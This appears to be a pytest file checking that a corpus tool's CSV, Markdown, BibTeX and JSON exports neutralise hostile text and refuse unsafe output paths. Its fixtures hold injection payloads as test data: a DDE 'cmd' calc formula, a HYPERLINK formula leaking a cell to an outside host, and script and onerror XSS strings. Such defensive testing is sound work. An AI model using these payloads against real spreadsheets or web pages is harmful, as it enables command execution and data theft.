"""Export with citations: every format is parsed back, hostile text stays inert."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import pytest

from cli.main import main
from index.export import (
    FIELDS,
    ExportPathError,
    ExportRecord,
    bib_escape,
    csv_cell,
    md_escape,
    to_bibtex,
    to_csv,
    to_json,
    to_markdown,
    write_atomic,
)

EVIL_TITLE = '=HYPERLINK("http://x/?"&A1,"click") <script>alert(1)</script> [a](http://x) {\\x}'
HOSTILE = (
    "---\n"
    "title: '" + EVIL_TITLE.replace("'", "''") + "'\n"
    "date: 2021-02-03\n"
    "source: '@SUM(1+1)'\n"
    "author: '-2+3 ![img](http://x/y.png) 100% & $x$ #h _u_'\n"
    "---\n"
    "Quokka body\n\n"
    "+cmd|' /C calc'!A0 Ein Quokka ist hier. Noch ein Quokka. `code` **fett** <b>x</b>\n"
)


def _record(**kw: str | None) -> ExportRecord:
    base: dict[str, str | None] = dict(
        id="abc123", title="T", date="2021-01-13", date_origin="dateline", source="heise",
        agency="dpa", author=None, language="de", corpus="/c", path="a.txt",
        passage="p", citation="c")
    base.update(kw)
    return ExportRecord(**base)  # type: ignore[arg-type]


@pytest.fixture
def hostile_corpus(seed_corpus: Path) -> Path:
    (seed_corpus / "hostile.md").write_text(HOSTILE, "utf-8")
    return seed_corpus


def _export(capsys: pytest.CaptureFixture[str], corpus: Path, *argv: str) -> tuple[int, str, str]:
    code = main(["export", *argv, "--corpus", str(corpus)])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_csv_cells_never_start_a_formula(value: str) -> None:
    assert csv_cell(value).startswith("'")
    assert csv_cell("Parler") == "Parler"


def test_csv_round_trip_with_quotes_and_newline_free_cells() -> None:
    rec = _record(title='He said "no", then; left', passage="=cmd")
    rows = list(csv.reader(io.StringIO(to_csv([rec]))))
    assert rows[0] == list(FIELDS)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["title"] == 'He said "no", then; left'
    assert row["passage"] == "'=cmd"


def test_excel_csv_has_bom_and_semicolons() -> None:
    text = to_csv([_record(title="a;b")], excel=True)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert rows[1][FIELDS.index("title")] == "a;b"
    assert not to_csv([_record()]).startswith("\ufeff")


def test_markdown_escape_is_inert() -> None:
    out = md_escape("<img src=x onerror=alert(1)> [link](http://x) ![i](y) *b* `c` | d")
    assert "<" not in out and ">" not in out
    assert not re.search(r"(?<!\\)[\[\]()*`|]", out)
    assert md_escape("- item").startswith("\\-") and md_escape("1. item").startswith("1\\.")


def test_bibtex_escape_balances_braces() -> None:
    s = bib_escape("a}b{c\\d%e&f$g#h_i^j~k")
    assert s.count("\\{") == 1 and s.count("\\}") == 1
    depth = 0
    for m in re.finditer(r"(?<!\\)[{}]", s):
        depth += 1 if m.group(0) == "{" else -1
        assert depth >= 0
    assert depth == 0


def _parse_bibtex(text: str) -> list[tuple[str, str, dict[str, str]]]:
    """A small BibTeX reader: entries, keys and brace-balanced fields."""
    entries = []
    for m in re.finditer(r"@(\w+)\{([^,\s]+),\n(.*?)\n\}", text, re.S):
        fields: dict[str, str] = {}
        for line in m.group(3).splitlines():
            fm = re.fullmatch(r"  (\w+) = \{(.*)\},", line)
            assert fm, line
            value = fm.group(2)
            depth = 0
            for b in re.finditer(r"(?<!\\)[{}]", value):
                depth += 1 if b.group(0) == "{" else -1
                assert depth >= 0, value
            assert depth == 0, value
            fields[fm.group(1)] = value
        entries.append((m.group(1), m.group(2), fields))
    assert len(entries) == text.count("\n@") + text.startswith("@")
    return entries


def test_bibtex_kinds_and_stable_keys() -> None:
    a = _record(source="Die Zeit", date="2021-03-05")
    b = _record(id="xyz", source=None, agency=None, date=None)
    entries = _parse_bibtex(to_bibtex([a, b]))
    assert [(k, key) for k, key, _ in entries] == [
        ("article", "diezeit-2021-abc123"), ("misc", "dossier-nd-xyz")]
    assert entries[0][2]["journal"] == "Die Zeit" and entries[0][2]["month"] == "3"
    assert to_bibtex([a]) == to_bibtex([a])


def test_json_round_trip() -> None:
    data = json.loads(to_json([_record(title="Ä \"q\"")]))
    assert data[0]["title"] == 'Ä "q"' and set(data[0]) == set(FIELDS)


def test_cli_export_formats_parse_back(hostile_corpus: Path,
                                       capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = _export(capsys, hostile_corpus, "Quokka", "--format", "json")
    assert code == 0, err
    (rec,) = json.loads(out)
    assert rec["title"] == EVIL_TITLE and rec["date"] == "2021-02-03"
    assert rec["source"] == "@SUM(1+1)" and rec["author"].startswith("-2+3")
    assert "Quokka" in rec["passage"] and rec["path"] == "hostile.md"
    assert rec["citation"].startswith(rec["author"] + ": “" + EVIL_TITLE + "”, @SUM(1+1)")

    code, out, _ = _export(capsys, hostile_corpus, "Quokka", "--format", "csv")
    assert code == 0 and not out.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 1
    for name, value in rows[0].items():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), name
    assert rows[0]["title"] == "'" + EVIL_TITLE

    code, out, _ = _export(capsys, hostile_corpus, "Quokka", "--format", "md")
    assert code == 0
    assert "<script>" not in out and "](http" not in out and "![" not in out
    assert "&lt;script&gt;" in out and "## 1. " in out

    code, out, _ = _export(capsys, hostile_corpus, "Quokka", "--format", "bibtex")
    assert code == 0
    ((kind, key, fields),) = _parse_bibtex(out)
    assert kind == "article" and key.startswith("sum11-2021-")
    assert "\\&" in fields["title"] and "\\$x\\$" in fields["author"]


def test_cli_export_all_seeds_with_filters(seed_corpus: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = _export(capsys, seed_corpus, "Parler", "--format", "json",
                           "--since", "2021-01", "--until", "2021-01", "--sort", "oldest")
    assert code == 0
    dates = [r["date"] for r in json.loads(out)]
    assert dates == sorted(dates) and dates and all(d.startswith("2021-01") for d in dates)
    code, out, _ = _export(capsys, seed_corpus, "Parler", "--format", "csv", "--limit", "1")
    assert len(list(csv.DictReader(io.StringIO(out)))) == 1


def test_cli_export_to_file_by_suffix(seed_corpus: Path, tmp_path: Path,
                                      capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / "brief.bib"
    code, out, err = _export(capsys, seed_corpus, "Parler", "--out", str(target))
    assert code == 0 and out == ""
    assert "3 articles written" in err
    assert len(_parse_bibtex(target.read_text("utf-8"))) == 3
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_cli_export_bad_targets_one_line_exit_2(seed_corpus: Path, tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        cases = [str(tmp_path), str(tmp_path / "missing" / "x.csv")]
        if os.geteuid() != 0:  # root writes anywhere
            cases.append(str(locked / "x.csv"))
        for out in cases:
            code, stdout, err = _export(capsys, seed_corpus, "Parler", "--out", out)
            assert code == 2 and stdout == "", out
            assert err.count("\n") == 1 and err.startswith("dossier: cannot export"), err
    finally:
        locked.chmod(0o700)
    code, _, err = _export(capsys, seed_corpus, "Parler", "--format", "md", "--excel")
    assert code == 2 and "CSV only" in err
    code, _, err = _export(capsys, seed_corpus, '"Parler')
    assert code == 2 and err.count("\n") == 1


def test_cli_export_unwritable_file_as_non_root(seed_corpus: Path, tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    """An existing read-only file is refused (checked through os.access, so it holds
    for root only where root can't write either)."""
    target = tmp_path / "ro.csv"
    target.write_text("keep", "utf-8")
    target.chmod(0o400)
    if os.access(target, os.W_OK):
        pytest.skip("running as root: every file is writable")
    code, _, err = _export(capsys, seed_corpus, "Parler", "--out", str(target))
    assert code == 2 and "not writable" in err
    assert target.read_text("utf-8") == "keep"


def test_cli_export_refuses_fifo_and_symlink_targets(seed_corpus: Path, tmp_path: Path,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    """The rename would replace a FIFO (or a device such as /dev/null) or a symlink
    with a regular file: refused with one line, exit 2, nothing touched."""
    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    real = tmp_path / "real.md"
    real.write_text("keep", "utf-8")
    link = tmp_path / "link.md"
    link.symlink_to(real)
    for out, why in ((fifo, "not a regular file"), (link, "symbolic link")):
        code, stdout, err = _export(capsys, seed_corpus, "Parler", "--out", str(out))
        assert code == 2 and stdout == "", err
        assert err.count("\n") == 1 and why in err, err
    import stat
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert link.is_symlink() and real.read_text("utf-8") == "keep"
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_write_atomic_refuses_non_regular_targets(tmp_path: Path) -> None:
    """The TUI writes through write_atomic directly: the same refusal there."""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    link = tmp_path / "link"
    link.symlink_to(tmp_path / "elsewhere")
    for target in (fifo, link, tmp_path):
        with pytest.raises(ExportPathError):
            write_atomic(target, "x")
    assert not (tmp_path / "elsewhere").exists()


def test_cli_export_keeps_the_mode_of_a_replaced_file(seed_corpus: Path, tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / "private.md"
    target.write_text("old", "utf-8")
    target.chmod(0o600)
    code, _, err = _export(capsys, seed_corpus, "Parler", "--out", str(target))
    assert code == 0, err
    assert target.read_text("utf-8") != "old"
    assert target.stat().st_mode & 0o777 == 0o600


def test_markdown_brief_reads_well() -> None:
    text = to_markdown([_record(title="Parler klagt", passage="Ein Satz.")], heading="Parler")
    assert text.startswith("# Parler\n")
    assert "## 1. Parler klagt" in text and "> Ein Satz." in text
    assert "- **Date:** 2021-01-13" in text and "*c*" in text
